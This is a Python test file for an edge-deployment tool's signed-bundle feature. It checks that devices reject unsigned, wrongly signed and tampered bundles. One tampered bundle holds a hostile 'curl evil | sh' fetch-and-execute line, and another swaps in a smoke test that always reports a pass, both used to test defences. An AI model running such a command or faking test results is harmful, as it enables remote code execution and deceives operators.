"""Signed bundles (issue 25): ``edgekit bundle --sign KEY`` signs manifest.json (which lists every file's
sha256) with ``ssh-keygen -Y sign``; the device agent checks the signature with ``ssh-keygen -Y verify``
against its allowed-signers file before anything is extracted. Real keys made here with ssh-keygen; the
agent runs as the host runs it (a subprocess, one JSON line out); the last test deploys over real SSH.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from edgekit.deploy import agent

sys.path.insert(0, str(Path(__file__).parent))
from test_hostile_bundles import FILES, base_manifest, make_bundle, run_agent, tree, unpack  # noqa: E402

SSH_KEYGEN = shutil.which("ssh-keygen") or "/usr/bin/ssh-keygen"


def keygen(path: Path) -> Path:
    subprocess.run([SSH_KEYGEN, "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", str(path)], check=True)
    return path

pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="needs OpenSSH's ssh-keygen")


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    d = tmp_path_factory.mktemp("signkeys")
    good, other = keygen(d / "release_ed25519"), keygen(d / "other_ed25519")
    allowed = d / "allowed_signers"
    allowed.write_text(f"release@example {Path(str(good) + '.pub').read_text()}")
    return {"good": good, "other": other, "allowed": allowed}


def sign(manifest_bytes: bytes, key: Path, d: Path) -> bytes:
    m = d / "manifest.json"
    m.write_bytes(manifest_bytes)
    (d / "manifest.json.sig").unlink(missing_ok=True)
    subprocess.run([SSH_KEYGEN, "-q", "-Y", "sign", "-n", "edgekit-bundle", "-f", str(key), str(m)], check=True)
    return (d / "manifest.json.sig").read_bytes()


def signed_bundle(path: Path, manifest: dict, sig: bytes | None, members=None) -> Path:
    """make_bundle's tarball with ``manifest.json.sig`` as the second member."""
    plain = make_bundle(path.with_suffix(".plain"), manifest, members)
    with tarfile.open(plain) as src, tarfile.open(path, "w:gz") as dst:
        for i, m in enumerate(src.getmembers()):
            dst.addfile(m, src.extractfile(m) if m.isfile() else None)
            if i == 0 and sig is not None:
                ti = tarfile.TarInfo(agent.SIG_NAME)
                ti.size = len(sig)
                dst.addfile(ti, io.BytesIO(sig))
    return path


@pytest.fixture
def root(tmp_path, keys):
    """A deploy root whose device trusts the release key."""
    r = tmp_path / "sandbox" / "home" / "edgekit"
    (r / "releases").mkdir(parents=True)
    upload = r / ".upload-allowed_signers"
    shutil.copy(keys["allowed"], upload)
    code, out = run_agent("trust", "--root", str(r), "--signers", str(upload))
    assert code == 0 and out["allowed_signers"] and out["unsigned"] == "require", out
    assert not upload.exists()
    return r


def test_a_device_with_allowed_signers_takes_only_bundles_they_signed(root, keys, tmp_path):
    m = base_manifest("v1")
    raw = json.dumps(m).encode()
    good = sign(raw, keys["good"], tmp_path)
    before = tree(root)
    for name, sig, message in [
        ("unsigned", None, "the bundle is not signed and this device requires signed bundles"),
        ("other-key", sign(raw, keys["other"], tmp_path), "its key is not in the device's allowed signers"),
        ("garbage", b"-----BEGIN SSH SIGNATURE-----\nAAAA\n-----END SSH SIGNATURE-----\n", "signature is not valid"),
    ]:
        code, out = unpack(root, signed_bundle(tmp_path / f"{name}.tar.gz", m, sig), "v1")
        assert code == 1 and out["step"] == "verify" and message in out["error"], (name, out)
        assert tree(root) - before <= {".lock"} and not list((root / "releases").iterdir()), name

    # Tampered then re-checksummed: run.sh swapped, the manifest's sha256 and size updated to match, the
    # old signature kept. The checksums all agree; only the signature says it is not what was signed.
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    m2 = json.loads(raw)
    m2["files"]["run.sh"] = {"sha256": hashlib.sha256(evil).hexdigest(), "size": len(evil)}
    members = [("model", None), ("smoke", None)] + [(k, evil if k == "run.sh" else v) for k, v in FILES.items()]
    code, out = unpack(root, signed_bundle(tmp_path / "tampered.tar.gz", m2, good, members), "v1")
    assert code == 1 and "does not match this manifest (the bundle was changed after signing)" in out["error"], out
    assert not list((root / "releases").iterdir())

    code, out = unpack(root, signed_bundle(tmp_path / "good.tar.gz", m, good), "v1")
    assert code == 0 and out["signature"] == {"signed": True, "verified": True, "signer": "release@example",
                                              "policy": "require"}, out
    rel = root / "releases" / "v1"
    assert {p.relative_to(rel).as_posix() for p in rel.rglob("*") if p.is_file()} == set(FILES) | {"manifest.json"}


def test_devices_without_allowed_signers_keep_deploying_and_policy_overrides(tmp_path, keys):
    r = tmp_path / "edgekit"
    (r / "releases").mkdir(parents=True)
    m = base_manifest("v1")
    code, out = unpack(r, signed_bundle(tmp_path / "u.tar.gz", m, None), "v1")
    assert code == 0 and out["signature"] == {"signed": False, "policy": "accept"}, out
    # The owner turns the requirement on without signers: unsigned is refused, and says how to fix it.
    code, out = run_agent("trust", "--root", str(r), "--unsigned", "refuse")
    assert code == 0 and out["unsigned"] == "require"
    m["version"] = "v2"
    code, out = unpack(r, signed_bundle(tmp_path / "u2.tar.gz", m, None), "v2")
    assert code == 1 and "requires signed bundles" in out["error"], out
    code, out = run_agent("trust", "--root", str(r), "--unsigned", "accept")
    code, out = unpack(r, signed_bundle(tmp_path / "u2.tar.gz", m, None), "v2")
    assert code == 0, out
    # An allowed-signers file that is not one is refused, and nothing is installed.
    bad = r / ".upload-allowed_signers"
    bad.write_text("just-a-name\n")
    code, out = run_agent("trust", "--root", str(r), "--signers", str(bad))
    assert code == 1 and out["step"] == "trust" and "PRINCIPAL" in out["error"] and not (r / "trust" /
                                                                                       "allowed_signers").exists()


def test_bundle_sign_writes_a_signature_the_device_accepts(tflite_model, keys, tmp_path, invoke_cli):
    out = tmp_path / "b.tar.gz"
    code, so, err = invoke_cli(["bundle", str(tflite_model), "-p", "x86-cpu", "-o", str(out), "--version", "s1",
                                "--sign", str(keys["good"]), "--json", str(tmp_path / "b.json"), "-q"])
    assert code == 0, err
    with tarfile.open(out) as tar:
        names = tar.getnames()
    assert names[:2] == ["manifest.json", "manifest.json.sig"]
    r = tmp_path / "dev" / "edgekit"
    (r / "releases").mkdir(parents=True)
    shutil.copy(keys["allowed"], r / ".upload-allowed_signers")
    assert run_agent("trust", "--root", str(r), "--signers", str(r / ".upload-allowed_signers"))[0] == 0
    code, res = unpack(r, out, "s1")
    assert code == 0 and res["signature"]["verified"] and res["signature"]["signer"] == "release@example", res
    # A key that cannot sign: one clean error, no bundle written.
    (tmp_path / "notakey").write_text("hello\n")
    code, so, err = invoke_cli(["bundle", str(tflite_model), "-p", "x86-cpu", "-o", str(tmp_path / "c.tar.gz"),
                                "--sign", str(tmp_path / "notakey")])
    assert code == 2 and "--sign" in err and "Traceback" not in err and not (tmp_path / "c.tar.gz").exists()


@pytest.mark.ssh
def test_deploy_to_a_device_that_requires_signatures(device, bundles, keys, tmp_path):
    """Over real SSH (the shared device: its runtime venv is reused): a deploy installs the allowed signers
    and a signed release; then an unsigned bundle and a tampered-and-re-checksummed copy of the signed one
    are refused at verify, before anything is extracted, and the signed release keeps serving."""
    from edgekit.deploy.bundle import rebundle
    from edgekit.deploy.deploy import DeployOptions, deploy_host
    from edgekit.deploy.ssh import StepFailed

    opts = lambda **kw: DeployOptions(serve_port=device.serve_port, health_timeout=60, **kw)  # noqa: E731
    signed = rebundle(bundles("v1"), tmp_path / "s1.tar.gz", "s1", sign=keys["good"])
    try:
        r = asyncio.run(deploy_host(signed, device.target(), opts(allowed_signers=str(keys["allowed"]))))
        assert r["status"] == "deployed" and device.current() == "s1" and "trust" in r["steps"]

        unsigned = rebundle(bundles("v1"), tmp_path / "u1.tar.gz", "u1")
        with pytest.raises(StepFailed) as e:
            asyncio.run(deploy_host(unsigned, device.target(), opts()))
        assert e.value.step == "verify" and "not signed" in str(e.value)

        def swap_smoke(folder: Path):
            (folder / "smoke_test.py").write_text("print('{\"passed\": true}')\n")

        tampered = rebundle(signed, tmp_path / "t1.tar.gz", "s2", mutate=swap_smoke)  # re-checksummed, old sig
        with pytest.raises(StepFailed) as e:
            asyncio.run(deploy_host(tampered, device.target(), opts()))
        assert e.value.step == "verify" and "changed after signing" in str(e.value)
        assert device.current() == "s1" and not (device.root / "releases" / "u1").exists()
        assert not (device.root / "releases" / "s2").exists()
    finally:  # the shared device goes back to accepting unsigned bundles for the other tests
        shutil.rmtree(device.root / "trust", ignore_errors=True)
